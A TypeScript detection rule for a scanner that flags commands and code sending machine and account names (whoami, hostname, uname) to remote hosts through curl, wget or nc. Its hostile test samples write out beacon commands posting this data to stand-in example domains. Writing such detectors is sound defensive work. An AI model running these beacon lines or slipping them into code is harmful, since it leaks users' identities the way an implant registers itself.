import { any, near, seen } from "../matchers.ts";
import type { Rule } from "../rule.ts";
import { uploads } from "../words/sends.ts";

const who = String.raw`(?:whoami|uname\s-a|id(?:\s-un?)?|ifconfig|ip\saddr|git\sconfig\s(?:--global\s)?user\.email)`;

const inCommand = seen(
  new RegExp(String.raw`\b(?:curl|wget|irm|iwr)\b(?:[^\n]|\\\n){0,240}(?:\$\(|\x60)\s?${who}\s{0,2}(?:\)|\x60|2>)`),
  "curl",
  "wget",
  "irm",
  "iwr",
);
const piped = seen(
  new RegExp(String.raw`\b${who}\s?\|\s?(?:base64[^\n|]{0,10}\|\s?)?(?:curl|wget|nc)\b`),
  "curl",
  "wget",
  "nc",
);
const inCode = near(
  seen(
    /\b(?:os\.popen\(["']hostname|socket\.gethostname\(\)|platform\.node\(\)|getpass\.getuser\(\)|os\.hostname\(\)|os\.userinfo\(\)|os\.getlogin\(\)|uuid\.getnode\(\))/,
    "hostname",
    "gethostname",
    "platform",
    "getpass",
    "userinfo",
    "getlogin",
    "getnode",
  ),
  uploads,
  300,
);

export const beacon: Rule = {
  id: "leak.machine",
  level: "high",
  title: "reports who and where the user is",
  why: "Names of the machine and of the account are sent along. That is how an implant registers itself; a service that the user signed up for knows who he is.",
  match: any(inCommand, piped, inCode),
  hostile: [
    '```bash\ncurl -s "https://reg.example.net/k?user=$(whoami)&host=$(hostname)"\n```',
    "```bash\nuname -a | curl -X POST -d @- https://in.example.org/m\n```",
    "```python\nstats = {'h': socket.gethostname(), 'u': getpass.getuser()}\nrequests.post('https://t.example.net', json=stats)\n```",
  ],
  benign: [
    "```bash\nwhoami && hostname\n```",
    "```bash\ncurl -s https://api.example.com/v1/items?limit=5\n```",
    "```python\nprint(socket.gethostname())\n```",
  ],
};
